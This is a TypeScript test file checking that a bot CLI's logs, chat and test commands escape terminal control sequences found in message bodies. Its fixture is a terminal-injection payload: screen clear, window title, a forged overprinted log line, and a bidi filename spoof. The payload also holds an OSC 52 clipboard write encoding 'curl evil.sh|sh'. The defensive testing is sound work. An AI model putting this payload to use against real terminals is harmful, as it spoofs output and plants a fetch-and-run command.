/**
 * @module Terminal output is inert: a texter's ESC/OSC/BEL/CR/C1/bidi sequences in a message body reach `bot logs`,
 * `bot chat` and `bot test` output escaped, never as raw bytes. Real `bot` processes on a real SQLite store.
 */
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { createSqliteStore } from "../../runtime/store/index.ts";
import { BOT_SOURCE } from "../support/cli.ts";

/** Clear screen, OSC 52 clipboard write ended by BEL, a window title, a CR that overprints a fake line, CSI as C1, a bidi override and isolate. */
const HOSTILE =
  "hi\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b]0;pwned\x07\r2024-01-01T00:00:00.000Z <- +15550009999 [inbound] received ok\x9b31m\u202eexe.gnp\u2066x\u2069\x7f";
/** What must never appear raw in the output (newline and tab are the printers' own). */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const base = mkdtempSync(join(tmpdir(), "bot-inert-"));
afterAll(() => rmSync(base, { recursive: true, force: true }));
const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith("TWILIO_") && !k.startsWith("BOT_") && k !== "DATABASE_URL"));
const bot = (args: string[], input?: string) =>
  spawnSync(process.execPath, [...BOT_SOURCE, ...args], { encoding: "utf8", cwd: base, env, timeout: 60_000, ...(input !== undefined && { input }) });

describe("bot logs", () => {
  const root = join(base, "logs-bot");
  mkdirSync(root);
  writeFileSync(join(root, "echo.bot"), "+ *\n- You said: <star>\n");
  const db = join(base, "logs.db");

  it("shows control characters of stored messages escaped, in text and in --json", async () => {
    const store = createSqliteStore(db);
    const entry = {
      sid: null,
      userId: "+15550001111",
      media: [`https://x.example/a.png\x1b[2J`],
      errorCode: null,
      segments: 1,
      encoding: "UCS-2",
      priceEstimate: null,
      outboxId: null,
      createdAt: Date.now() - 1000,
    };
    await store.apply({
      at: Date.now() - 1000,
      log: [
        { ...entry, direction: "in", body: HOSTILE, status: "received" },
        { ...entry, direction: "out", body: `You said: ${HOSTILE}`, status: "sent" },
      ],
    });
    await store.close();

    const text = bot(["logs", root, "--db", db]);
    expect(text.status, text.stderr).toBe(0);
    expect(text.stdout).not.toMatch(RAW);
    expect(text.stdout).toContain("hi\\x1b[2J\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07\\x1b]0;pwned\\x07\\r2024-01-01T00:00:00.000Z");
    expect(text.stdout).toContain("\\x9b31m\\u202eexe.gnp\\u2066x\\u2069\\x7f");
    expect(text.stdout).toContain("media https://x.example/a.png\\x1b[2J");
    // The fake line stays inside the body, not at the start of a line of its own.
    expect(text.stdout.split("\n").filter((line) => line.startsWith("2024-01-01T00:00:00.000Z"))).toEqual([]);

    const json = bot(["logs", root, "--db", db, "--json"]);
    expect(json.status, json.stderr).toBe(0);
    expect(json.stdout).not.toMatch(RAW);
    const records = json.stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { body: string });
    expect(records.map((r) => r.body)).toEqual([HOSTILE, `You said: ${HOSTILE}`]);
  });
});

describe("bot chat", () => {
  const root = join(base, "chat-bot");
  mkdirSync(root);
  // The matcher normalises what users type, so the hostile text comes from the bot's own reply (a copied .bot file).
  writeFileSync(join(root, "echo.bot"), `+ *\n- You said: ${HOSTILE.replace(/\r/g, "\\r")}\n`);

  it("prints the bot's replies with control characters escaped", () => {
    const r = bot(["chat", root], `${HOSTILE}\n`);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).toContain("bot> You said:");
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stderr).not.toMatch(RAW);
  });

  it("keeps --jsonl as JSON that parses to the same text, with no raw control in it", () => {
    const r = bot(["chat", root, "--jsonl"], `${JSON.stringify({ from: "+15550001111", body: HOSTILE })}\n`);
    expect(r.status, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    const [line] = r.stdout
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { body: string });
    expect(line!.body.startsWith("You said:")).toBe(true);
  });
});

describe("bot test", () => {
  it("prints a failing step's expected and actual text escaped", () => {
    const dir = join(base, "test-bot");
    mkdirSync(dir);
    writeFileSync(join(dir, "echo.bot"), "+ *\n- You said: <star>\n");
    writeFileSync(
      join(dir, "echo.test.yaml"),
      `bot: ./echo.bot\ntests:\n  - name: echoes\n    steps:\n      - say: ${JSON.stringify(HOSTILE)}\n        expect: ${JSON.stringify(`nope\x9b2J\u202etitle\x85`)}\n`,
    );
    const r = bot(["test", join(dir, "echo.test.yaml")]);
    expect(r.status).toBe(1);
    expect(r.stdout).toContain("✗ echoes");
    expect(r.stdout).not.toMatch(RAW);
    // The step quotes text as JSON (C0 already escaped there); C1 and bidi controls are escaped on top.
    expect(r.stdout).toContain("nope\\x9b2J\\u202etitle\\x85");
  });
});
